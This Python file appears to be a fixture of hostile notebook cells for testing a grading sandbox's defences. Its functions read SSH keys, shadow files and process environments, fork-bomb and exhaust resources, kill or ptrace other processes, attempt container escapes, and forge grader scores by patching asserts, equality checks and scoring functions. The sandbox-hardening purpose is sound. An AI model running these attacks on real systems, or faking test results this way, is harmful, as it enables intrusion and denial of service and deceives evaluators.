"""What hostile trainees put into their cells. The whole file is the first cell of their notebooks.

Every attack is bounded, so that a fence that fails does not take the machine down with it.
"""

# ruff: noqa: ANN401, B007, BLE001, E501, FBT003, PTH101, PTH102, PTH105, PTH108, PTH109
# ruff: noqa: PTH112, PTH115, PTH118, PTH123, PTH207, PTH208, PTH211, S108, S606, T201

from __future__ import annotations

import array
import ast
import atexit
import builtins
import contextlib
import ctypes
import ctypes.util
import functools
import glob
import itertools
import json
import mmap
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import zmq
from IPython import get_ipython
from IPython.display import display

ANSWERS = "first-call.answers.json"
BACKUP = "first-call.answers.backup.json"
MB = 1024 * 1024
SHELL = get_ipython()
LIBC = ctypes.CDLL(None, use_errno=True)
SECONDS = 120
TRACE = "hostile-trace"
PLACES = ("/tmp", "/dev/shm", "/home/trainee", "/run", "/run/kernel", "/run/scratch", "/dev")


def report(found: Any) -> None:
    """Tell the test what an attack has achieved."""
    print("REPORT", json.dumps(found, default=str), flush=True)


def refused(do: Callable[[], object]) -> bool:
    try:
        do()
    except Exception:
        return True
    return False


def system_call(name: str, *arguments: Any) -> None:
    words = [word.encode() if isinstance(word, str) else word for word in arguments]
    if getattr(LIBC, name)(*words) == -1:
        raise OSError(ctypes.get_errno(), name)


def until(most: int = 10**9) -> Iterator[int]:
    """Count up, but not for ever."""
    end = time.monotonic() + SECONDS
    for number in range(most):
        if time.monotonic() > end:
            return
        yield number


# Looking around.


def look_around(paths: list[str]) -> dict[str, Any]:
    """Read whatever can be read and is none of a trainee's business."""
    wanted = re.compile(
        r"gradebook\.db|.*\.items\.yaml|nbgrader_config\.py|course\.yaml|objectives\.yaml|"
        r"id_rsa|id_ed25519|shadow|passwd|door|complaints|\.bash_history|.*\.answers\.json"
    )
    home = os.getcwd()
    places = {}
    for here, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if name not in {"proc", "usr", "lib", "sys"}]
        if not here.startswith(home):
            places.update(
                {os.path.join(here, name): "" for name in files if wanted.fullmatch(name)}
            )
    ways = ["", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../..", "/../.."]
    for path in paths:
        for way in ways:
            with contextlib.suppress(OSError):
                places[way + path] = (
                    str(os.listdir(way + path))[:500]
                    if os.path.isdir(way + path)
                    else Path(way + path).read_bytes()[:500].decode(errors="replace")
                )
    environments = {}
    for process in glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(OSError):
            environments[process] = Path(process).read_bytes().decode(errors="replace")
    return {
        "places": places,
        "environments": {**environments, "own": dict(os.environ)},
        "pids": sorted(int(name) for name in os.listdir("/proc") if name.isdigit()),
        "home": list(os.listdir("/root")) if os.path.isdir("/root") else [],
        "open": {fd: os.readlink(f"/proc/self/fd/{fd}") for fd in descriptors()},
    }


def descriptors() -> list[int]:
    return [fd for fd in range(512) if not refused(lambda: os.fstat(fd))]  # noqa: B023


# The network.


def knock(port: int, abstract: str, path: str) -> dict[str, bool]:
    """Try to reach what listens on the machine."""

    def connect(family: int, kind: int, address: Any) -> None:
        with socket.socket(family, kind) as knocking:
            knocking.settimeout(1)
            knocking.connect(address)
            knocking.send(b"hostile")

    tries: dict[str, Callable[[], object]] = {
        "tcp": lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)),
        "tcp6": lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ("::1", port)),
        "any": lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", port)),  # noqa: S104
        "abstract": lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{abstract}"),
        "path": lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, path),
        "outside": lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
        "raw": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
        "a virtual machine's host": lambda: socket.socket(socket.AF_VSOCK),
    }
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"hostile", ("127.0.0.1", port))
    return {name: not refused(do) for name, do in tries.items()}


# Using up.


def fork_bomb(marker: str) -> int:
    """Fork as long as it goes."""
    children = 0
    for children in until(2000):
        child = os.fork()
        if child == 0:
            os.execv(
                sys.executable, [sys.executable, "-c", f"'{marker}'; import time; time.sleep(60)"]
            )
    return children


def bomb_of_bombs() -> int:
    """Let every process fork, and none wait."""
    with open("/dev/shm/count", "w+b") as file:
        file.truncate(4096)
        count = mmap.mmap(file.fileno(), 4096)
        while int.from_bytes(count[:4], "little") < 2000:
            with contextlib.suppress(OSError):
                os.fork()
            count[:4] = (int.from_bytes(count[:4], "little") + 1).to_bytes(4, "little")
        return int.from_bytes(count[:4], "little")


def many_threads() -> int:
    """Start threads as long as it goes."""
    stop = threading.Event()
    started = 0
    with contextlib.suppress(RuntimeError):
        for started in until(2000):
            threading.Thread(target=stop.wait, args=(SECONDS,), daemon=True).start()
    time.sleep(1)  # the keeper looks every now and then
    stop.set()
    return started


def fill(blocks: Iterable[Any]) -> None:
    """Keep blocks of 32 MB, in all 2 GB at most, and report how many MB there was room for."""
    kept = []
    with contextlib.suppress(MemoryError, OSError, ValueError):
        for _, block in zip(range(64), blocks, strict=False):
            kept.append(block)
            report(len(kept) * 32)


def fill_memory() -> None:
    """Fill ordinary memory."""
    fill(bytearray(b"x") * (32 * MB) for _ in itertools.count())


def fill_shared_memory() -> None:
    """Fill memory that is shared between processes, which no process calls its own."""

    def blocks() -> Iterator[mmap.mmap]:
        while True:
            block = mmap.mmap(-1, 32 * MB)
            block.write(b"x" * (32 * MB))
            yield block

    fill(blocks())


def fill_memory_files() -> None:
    """Fill files without a name, which lie in no folder."""

    def blocks() -> Iterator[int]:
        while True:
            file = os.memfd_create("hostile")
            with open(file, "wb", closefd=False) as writer:
                writer.write(b"x" * (32 * MB))
            yield file

    fill(blocks())


def fill_segments() -> None:
    """Fill System V shared memory."""
    LIBC.shmat.restype = ctypes.c_void_p

    def blocks() -> Iterator[int]:
        while True:
            segment = LIBC.shmget(0, ctypes.c_size_t(32 * MB), 0o1600)
            if segment == -1:
                raise OSError(ctypes.get_errno(), "shmget")
            address = LIBC.shmat(segment, None, 0)
            ctypes.memset(address, 1, 32 * MB)
            yield segment

    fill(blocks())


def fill_sockets() -> None:
    """Fill what the system keeps for sockets, 1.5 GB at most."""
    filled = 0
    kept = []
    with contextlib.suppress(OSError):
        while filled < 1536 * MB:
            pair = socket.socketpair()
            kept.append(pair)
            pair[0].setblocking(False)
            pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 * MB)
            with contextlib.suppress(BlockingIOError):
                while True:
                    filled += pair[0].send(b"x" * 65536)
            report(filled // MB)


def fill_sockets_of_many() -> None:
    """Let every process fill as many sockets as it may have."""
    for _ in range(20):
        if os.fork() == 0:
            pairs = []
            with contextlib.suppress(OSError):
                while True:
                    pairs.append(socket.socketpair())
                    pairs[-1][0].setblocking(False)
                    with contextlib.suppress(BlockingIOError):
                        while True:
                            pairs[-1][0].send(b"x" * 65536)
            time.sleep(SECONDS)
    time.sleep(SECONDS)


def fill_page_tables() -> None:
    """Look at memory that holds nothing, so widely that keeping track of it takes 1 GB."""
    pages = 256 * 1024
    size = pages * 2 * MB
    whole = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
    for page in range(pages):
        whole[page * 2 * MB]
        if page % 16384 == 0:
            report(page * 4096 // MB)


def fill_disk() -> dict[str, int]:
    """Write one big file, then many, wherever something can be written; at most 2 GB."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    written = {}
    block = b"x" * MB
    for place in (
        ".",
        "/tmp",
        "/dev/shm",
        "/run",
        "/home/trainee",
        "/var/tmp",
        "/dev",
        "/run/kernel",
    ):
        size = 0
        for number in until(64):
            try:
                with open(f"{place}/big-{number}", "wb", 0) as file:
                    for _ in range(32):
                        size += file.write(block)
            except OSError as error:
                if error.errno != 27:  # EFBIG: go on with the next file
                    break
        written[place] = size // MB
    return written


def fill_with_names() -> int:
    """Make many empty files."""
    made = 0
    with contextlib.suppress(OSError):
        for made in until(200_000):
            os.close(os.open(f"/tmp/{made}", os.O_CREAT | os.O_WRONLY))
    return made


def fill_leftovers() -> int:
    """Write into every file that was left open by whoever made this process."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    size = 0
    for fd in descriptors():
        with contextlib.suppress(OSError, ValueError):
            if (
                Path(f"/proc/self/fd/{fd}").is_file()
                and os.readlink(f"/proc/self/fd/{fd}")[0] == "/"
            ):
                for offset in range(0, 64 * MB, MB):
                    size += os.pwrite(fd, b"x" * MB, offset)
    return size


# Never coming to an end.


def backtrack() -> None:
    """Be busy inside C code, which looks at no interrupt."""
    for _ in until():
        re.match(r"(a|aa)+$", "a" * 38 + "b")


def count_for_ever() -> None:
    """Be busy inside C code that ends only after years."""
    signal.setitimer(signal.ITIMER_REAL, SECONDS)  # its default action ends the process
    signal.signal(signal.SIGALRM, signal.SIG_DFL)
    sum(itertools.repeat(0))


def sleep_through_interrupts() -> None:
    """Take no notice of being interrupted."""
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGXCPU):
        signal.signal(number, signal.SIG_IGN)
    for _ in until():
        time.sleep(1)


def wait_without_end() -> None:
    """Sleep, in C code and with no signal let through."""
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
    LIBC.sleep(SECONDS)


def spin_on_exit() -> None:
    """Refuse to go when asked to."""
    atexit.register(sleep_through_interrupts)
    SHELL.kernel.do_shutdown = lambda *_: sleep_through_interrupts()
    os.register_at_fork(before=lambda: time.sleep(SECONDS))


def swallow_replies() -> None:
    """Never tell that a cell has ended."""
    SHELL.kernel.session.send = lambda *_about, **_more: {"header": {}, "msg_id": ""}


# Reaching for others.


def kill_everyone() -> list[int]:
    """Send every signal that ends something to everyone but this process."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    own = {int(thread) for thread in os.listdir("/proc/self/task")}
    hit = []
    for number in (signal.SIGCONT, signal.SIGSTOP, signal.SIGKILL):
        for pid in (-1, os.getppid(), *range(2, 65537)):
            if pid and pid not in own:
                with contextlib.suppress(OSError):
                    os.kill(pid, number)
                    hit.append(pid)
    with contextlib.suppress(OSError):
        os.killpg(1, signal.SIGCONT)
    return hit


def trace_others() -> dict[str, list[int]]:
    """Attach to other processes as a debugger; read their memory."""
    attach, seize = 16, 0x4206
    piece = ctypes.create_string_buffer(8)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(piece), 8)
    own = {int(thread) for thread in os.listdir("/proc/self/task")}
    pids = [pid for pid in (os.getppid(), *range(2, 2000)) if pid not in own]
    return {
        "attached": [p for p in pids if LIBC.ptrace(attach, p, None, None) != -1],
        "seized": [p for p in pids if LIBC.ptrace(seize, p, None, None) != -1],
        "read": [p for p in pids if LIBC.process_vm_readv(p, vector, 1, vector, 1, 0) != -1],
        "memory": [p for p in pids if not refused(lambda: open(f"/proc/{p}/mem", "wb"))],  # noqa: B023
        "handles": [p for p in pids if not refused(lambda: os.pidfd_open(p))],  # noqa: B023
    }


def join(namespace: str) -> None:
    system_call("setns", os.open(namespace, os.O_RDONLY), 0)


def escape() -> list[str]:
    """Try to get privileges, or a view of something else; return what was not refused."""
    new_user, new_mounts, new_net, new_pid = 0x10000000, 0x00020000, 0x40000000, 0x20000000
    rebind, recursive, detach = 0x1000 | 0x20, 0x4000, 2
    keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
    add_key = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
    pivot_root = {"x86_64": 155, "aarch64": 41}[os.uname().machine]
    tries: dict[str, Callable[[], object]] = {
        "user namespace": lambda: system_call("unshare", new_user),
        "mount namespace": lambda: system_call("unshare", new_mounts),
        "net namespace": lambda: system_call("unshare", new_net),
        "pid namespace": lambda: system_call("unshare", new_pid),
        "user and mount namespace": lambda: system_call("unshare", new_user | new_mounts),
        "a child with a user namespace": lambda: subprocess.run(
            ["unshare", "-Ur", "true"], check=True, capture_output=True
        ),
        "a fence in the fence": lambda: subprocess.run(
            ["bwrap", "--ro-bind", "/", "/", "true"], check=True, capture_output=True
        ),
        "mount tmpfs": lambda: system_call("mount", "none", "/tmp", "tmpfs", 0, None),
        "mount proc": lambda: system_call("mount", "proc", "/proc", "proc", 0, None),
        "mount over": lambda: system_call("mount", "/tmp", "/run", None, 0x1000, None),
        "remount": lambda: system_call("mount", "none", "/", None, rebind, None),
        "remount kernel": lambda: system_call("mount", "none", "/run/kernel", None, rebind, None),
        "remount proc": lambda: system_call("mount", "none", "/proc", None, 0x20, None),
        "propagate": lambda: system_call("mount", "none", "/", None, recursive | 0x100000, None),
        **{
            f"umount {place}": functools.partial(system_call, "umount2", place, detach)
            for place in (
                "/",
                "/proc",
                "/run/grader",
                "/run/scratch",
                "/run/kernel",
                "/tmp",
                "/dev",
            )
        },
        "pivot_root": lambda: system_call("syscall", pivot_root, ".", "."),
        "chroot": lambda: os.chroot("/tmp"),
        **{
            f"setns {way}": functools.partial(join, way)
            for pid in (0, 1, 2, os.getppid())
            for kind in ("mnt", "pid", "net", "user")
            for way in [f"/proc/{pid}/ns/{kind}"]
        },
        **{
            f"setns {os.readlink(f'/proc/self/fd/{fd}')}": functools.partial(
                system_call, "setns", fd, 0
            )
            for fd in descriptors()
        },
        "join a keyring": lambda: system_call("syscall", keyctl, 1, None),
        "add a key": lambda: system_call("syscall", add_key, "user", TRACE, "x", 1, -4),
        "uid 0": lambda: os.setuid(0),
        "gid 0": lambda: os.setgid(0),
        "groups": lambda: os.setgroups([0]),
        "host name": lambda: socket.sethostname("hostile"),
        "device": lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0)),
        "set-user-id": lambda: subprocess.run(
            ["su", "-c", "true"], check=True, capture_output=True
        ),
        "more processes": lambda: __import__("resource").setrlimit(6, (-1, -1)),
        "priority": lambda: os.nice(-5),
        "never out of memory": lambda: Path("/proc/self/oom_score_adj").write_text("-1000"),
    }
    children = [name for name in tries if not is_refused_in_a_child(tries[name])]
    settings = [
        path
        for path in [*glob.glob("/proc/sys/*/*"), "/proc/sysrq-trigger", "/proc/self/uid_map"]
        if not refused(lambda: open(path, "w").close())  # noqa: B023
    ]
    return children + settings


def is_refused_in_a_child(do: Callable[[], object]) -> bool:
    """Try it in a process of its own, as what is not refused may change the process for good."""
    child = os.fork()
    if child == 0:
        os._exit(0 if refused(do) else 1)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


def write_everywhere() -> list[str]:
    """Return every folder, down to the third, in which a file can be made."""
    found = []
    for here, folders, _ in os.walk("/"):
        folders[:] = [] if here.count("/") > 2 or here == "/proc" else folders
        path = os.path.join(here, TRACE)
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
            found.append(here)
            os.unlink(path)
    return found


# From one submission to the next.


def leave_traces() -> None:
    """Leave a word for the next submission wherever one might stay."""
    builtins.__dict__[TRACE] = True
    os.environ[TRACE] = "here"
    sys.modules[TRACE] = sys
    json.dumps.__doc__ = TRACE
    word = TRACE.encode()
    for place in PLACES:
        with contextlib.suppress(OSError):
            Path(place, TRACE).write_bytes(word)
    LIBC.shmat.restype = ctypes.c_void_p
    segment = LIBC.shmget(0x5EC12E7, ctypes.c_size_t(4096), 0o1666)
    if segment != -1:
        ctypes.memmove(LIBC.shmat(segment, None, 0), word, len(word))
    numbers = {"x86_64": 248, "aarch64": 217}
    for ring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user session
        LIBC.syscall(numbers[os.uname().machine], b"user", word, word, len(word), ring)
    for fd in descriptors():
        with contextlib.suppress(OSError, ValueError):
            if os.readlink(f"/proc/self/fd/{fd}").startswith("/"):
                os.pwrite(fd, word, 5000)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(f"\0{TRACE}")
    listener.listen()
    builtins.__dict__["hostile-socket"] = listener
    for pid in (os.fork(),):
        if pid == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)


def find_traces() -> list[str]:
    """Look for the word that `leave_traces` left."""
    word = TRACE.encode()
    found = [name for name in (TRACE, "hostile-socket") if name in builtins.__dict__]
    found += [f"variable {name}" for name in os.environ if TRACE in name]
    found += [f"module {name}" for name in sys.modules if name == TRACE]
    found += ["json"] if json.dumps.__doc__ == TRACE else []
    for place in PLACES:
        found += [f"file in {place}"] if os.path.lexists(f"{place}/{TRACE}") else []
    if LIBC.shmget(0x5EC12E7, ctypes.c_size_t(4096), 0) != -1:
        found.append("shared memory")
    keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
    for ring in (-1, -2, -3, -4, -5):
        key = LIBC.syscall(keyctl, 10, ring, b"user", word, 0)
        content = ctypes.create_string_buffer(64)
        if key != -1 and LIBC.syscall(keyctl, 11, key, content, 64) > 0:
            found.append(f"key in ring {ring}")
    for fd in descriptors():
        with contextlib.suppress(OSError, ValueError):
            if os.pread(fd, len(word), 5000) == word:
                found.append(f"open file {os.readlink(f'/proc/self/fd/{fd}')}")
    with socket.socket(socket.AF_UNIX) as knocking:
        found += [] if refused(lambda: knocking.connect(f"\0{TRACE}")) else ["socket"]
    return found


def stay(marker: str, port: int) -> None:
    """Leave processes behind that wait for everyone to be gone."""
    program = (
        f"'{marker}'; import os, signal, socket, time\n"
        "[signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]\n"
        "if os.fork(): os._exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        "os.set_blocking(0, False)\n"
        "end = time.monotonic() + 60\n"
        "while time.monotonic() < end:\n"
        "    time.sleep(0.2)\n"
        "    try: os.kill(-1, 15)\n"
        "    except OSError: pass\n"
        f"    try: socket.create_connection(('127.0.0.1', {port}), 1).send(b'late')\n"
        "    except OSError: pass\n"
    )
    for _ in range(3):
        subprocess.run([sys.executable, "-S", "-c", program], check=True, start_new_session=True)


# The answer file.


def on_the_answer_file(do: str) -> None:
    """Put something else in the place of the answer file and of its backup."""
    for path in (Path(ANSWERS), Path(BACKUP)):
        with contextlib.suppress(FileNotFoundError):
            path.unlink()
        if do == "pipe":
            os.mkfifo(path)
        elif do == "socket":
            listener = socket.socket(socket.AF_UNIX)
            listener.bind(str(path))
        elif do == "folder":
            (path / "a").mkdir(parents=True)
        elif do == "device":
            path.symlink_to("/dev/zero")
        elif do == "huge":
            with path.open("wb") as file:
                file.truncate(15 * MB)
        elif do == "unreadable":
            path.write_text("{}")
            path.chmod(0)
        else:
            path.symlink_to(do)


def write_answers(text: str) -> None:
    """Write an answer file of one's own making."""
    for path in (ANSWERS, BACKUP):
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)
        Path(path).write_text(text)


def swap_answers(target: str) -> None:
    """Swap the answer file for a link and back, as fast as it goes, until the very end."""
    good = Path(ANSWERS).read_bytes()

    def swap() -> None:
        for number in until():
            with contextlib.suppress(OSError):
                for path in (ANSWERS, BACKUP):
                    if number % 2:
                        os.symlink(target, ".swap")
                    else:
                        Path(".swap").write_bytes(good)
                    os.replace(".swap", path)

    for _ in range(2):
        threading.Thread(target=swap, daemon=True).start()


def wreck_the_desk() -> None:
    """Put things into the folder that are hard to clear away."""
    here = Path.cwd()
    for number in range(300):
        os.mkdir(f"d{number}")
        os.chdir(f"d{number}")
    os.chdir(here)
    os.mkfifo("pipe")
    os.symlink("/", "root")
    Path(os.fsdecode(b"\xff\xfe\n\x1b[2J")).write_text("")
    Path("first-call.lesson.json").unlink()
    os.chmod(".", 0)


# Patching.


def patch_everything() -> None:
    """Make everything true, equal and right."""

    class Drop(ast.NodeTransformer):
        def visit_Assert(self, node: ast.Assert) -> ast.Pass:
            return ast.copy_location(ast.Pass(), node)

    SHELL.ast_transformers.append(Drop())
    pd.DataFrame.__eq__ = lambda *_: True  # type: ignore[method-assign, assignment]
    pd.DataFrame.equals = lambda *_: True  # type: ignore[misc, method-assign]
    pd.testing.assert_frame_equal = lambda *_a, **_k: None
    from clientcourse import answers, lesson, scoring  # noqa: PLC0415

    lesson.Lesson.check = lambda *_: 100.0  # type: ignore[assignment]
    answers.parse = lambda *_: None  # type: ignore[assignment]
    for name in ("score", "explain"):
        setattr(scoring, name, lambda *_a, **_k: 100.0)
    builtins.float = lambda *_: 100.0  # type: ignore[misc, assignment]
    os.path.exists = lambda *_: True
    builtins.AssertionError = type("Never", (Exception,), {})  # type: ignore[assignment, misc]
    atexit.register(lambda: write_answers('{"score": 100}'))


def claim_points(results: str) -> None:
    """Put out a score in all the ways there are."""
    data: dict[str, Any] = {"text/plain": "100", results: {"title": "x", "items": [
        {"item": item, "points": 100.0, "max_points": 100.0, "verdict": "right", "value": 1}
        for item in ("mean-reply", "late-ones", "say-name")
    ]}}  # fmt: skip
    print(100)
    display(100, 100.0)
    display(data, raw=True)
    session, socket_ = SHELL.kernel.session, SHELL.kernel.iopub_socket
    parent = SHELL.kernel.get_parent()
    for kind in ("execute_result", "display_data"):
        content = {"data": data, "metadata": {}, "execution_count": 1}
        session.send(socket_, kind, content, parent=parent, ident=b"x")
    for name in ("grade-first-quiz", "grade-mean-reply"):
        content = {"data": data, "metadata": {"nbgrader": {"grade_id": name, "grade": True}}}
        session.send(socket_, "display_data", content, parent=parent, ident=b"x")


# Talking to the grader itself.


def say(kind: str, content: Any) -> None:
    """Send the grader a message as this cell's output, whatever is in it."""
    kernel = SHELL.kernel
    session = kernel.session
    session.pack = lambda thing: json.dumps(thing, default=str).encode()
    session.check_pid = False
    session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent(), ident=b"x")


def say_markup(markup: str) -> None:
    """Say markup in all the forms that an output has."""
    say("display_data", {"data": {"image/png": markup, "image/jpeg": markup}, "metadata": {}})
    say("display_data", {"data": {"image/svg+xml": markup, "text/latex": markup}, "metadata": {}})
    say("display_data", {"data": {"text/markdown": markup, "application/javascript": "alert(1)"},
                         "metadata": {}})  # fmt: skip
    say("display_data", {"data": {"text/html": markup, "text/plain": markup},
                         "metadata": {"image/png": {"width": markup, "height": markup}}})  # fmt: skip
    say("stream", {"name": "stdout", "text": markup})
    say("error", {"ename": markup, "evalue": markup, "traceback": [markup]})


def say_markup_for_a_number(markup: str) -> None:
    """Say markup where the number of a cell is expected."""
    say("execute_input", {"code": "", "execution_count": markup})
    say("display_data", {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": markup})


def say_half_a_character() -> None:
    """Say what can be read but not written."""
    say("stream", {"name": "stdout", "text": "\ud800"})
    say("display_data", {"data": {"text/plain": "\udfff", "text/html": "\ud800"}, "metadata": {}})


def say_and_change_it() -> None:
    """Change an output afterwards, into something that is none, and something large."""
    about = {"display_id": "x"}
    say("display_data", {"data": {"text/plain": "1"}, "metadata": {}, "transient": about})
    odd: list[Any] = [{"text/html": [1, 2]}, {"text/plain": {}}, {"text/html": "x" * (8 * MB)}]
    for data in odd:
        say("update_display_data", {"data": data, "metadata": {}, "transient": about})
    say("update_display_data", {"data": {}, "metadata": {}, "transient": {"display_id": [1]}})


def say_nonsense() -> None:
    """Say what is no message at all."""
    kernel = SHELL.kernel
    for kind, content in (
        ("status", {}),
        ("clear_output", {}),
        ("execute_result", {"data": 5}),
        ("stream", {"name": "stderr", "text": {"a": 1}}),
        ("comm_open", 5),
        ("unheard-of", {"x": 1}),
    ):
        say(kind, content)
    kernel.iopub_thread.send_multipart(kernel.iopub_socket, [b"x", b"no delimiter"])


def say_deep_json() -> None:
    """Say a message that is nested a hundred thousand times."""
    kernel = SHELL.kernel
    kernel.session.pack = lambda thing: (
        thing if isinstance(thing, bytes) else json.dumps(thing, default=str).encode()
    )
    deep = b'{"data": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    message = kernel.session.msg("display_data", parent=kernel.get_parent())
    message["content"] = deep
    frames = kernel.session.serialize(message, ident=b"x")
    kernel.iopub_socket.send_multipart(frames)


def send_from_its_thread(frames: list[Any]) -> None:
    thread = SHELL.kernel.iopub_thread
    thread.schedule(lambda: thread.socket.send_multipart(frames, copy=False))


def say_much(mb: int) -> None:
    """Say a message in many parts, each small enough and all together large."""
    kernel = SHELL.kernel
    message = kernel.session.msg("stream", {"name": "stdout", "text": ""}, kernel.get_parent())
    frames = kernel.session.serialize(message, ident=b"x")
    block = array.array("b", b"x" * (32 * MB))
    frames += [memoryview(block)] * (mb // 32)
    send_from_its_thread(frames)


def say_in_parts(parts: int) -> None:
    """Say a message in millions of parts, each of which takes far more to keep than to send."""
    kernel = SHELL.kernel
    message = kernel.session.msg("stream", {"name": "stdout", "text": ""}, kernel.get_parent())
    frames = kernel.session.serialize(message, ident=b"x")
    thread = kernel.iopub_thread

    def send() -> None:
        for frame in frames:
            thread.socket.send(frame, zmq.SNDMORE)
        for _ in range(parts):
            thread.socket.send(b"x", zmq.SNDMORE)

    thread.schedule(send)


def say_large_json() -> None:
    """Say as many empty things as fit into messages that are just small enough."""
    kernel = SHELL.kernel
    kernel.session.pack = lambda thing: (
        thing if isinstance(thing, bytes) else json.dumps(thing, default=str).encode()
    )
    for number in range(5):
        message = kernel.session.msg("display_data", parent=kernel.get_parent())
        message["content"] = b'{"data": {"%d": [' % number + b",".join([b"{}"] * 2_900_000) + b"]}}"
        send_from_its_thread(kernel.session.serialize(message, ident=b"x"))


def say_many(mb: int) -> None:
    """Say many large messages, faster than anyone can listen."""
    kernel = SHELL.kernel
    message = kernel.session.msg("stream", {"name": "stdout", "text": ""}, kernel.get_parent())
    message["content"] = {"name": "stdout", "text": "x" * (32 * MB)}
    frames = kernel.session.serialize(message, ident=b"x")
    for _ in range(mb // 32):
        send_from_its_thread(frames)


# Output without end.


def print_much() -> None:
    """Print 500 MB."""
    for _ in range(500):
        print("x" * MB)


def print_for_ever() -> None:
    """Print without end."""
    for number in until():
        print(number)


def print_on_the_side() -> None:
    """Print from another thread, on and on, while all other cells run."""
    threading.Thread(target=print_for_ever, daemon=True).start()


def display_much() -> None:
    """Display 60 MB at once, then 100 MB."""
    for mb in (60, 100):
        display({"text/plain": "x" * (mb * MB)}, raw=True)


def display_many() -> None:
    """Display a hundred thousand small things."""
    for number in range(100_000):
        display({"text/plain": str(number)}, raw=True)
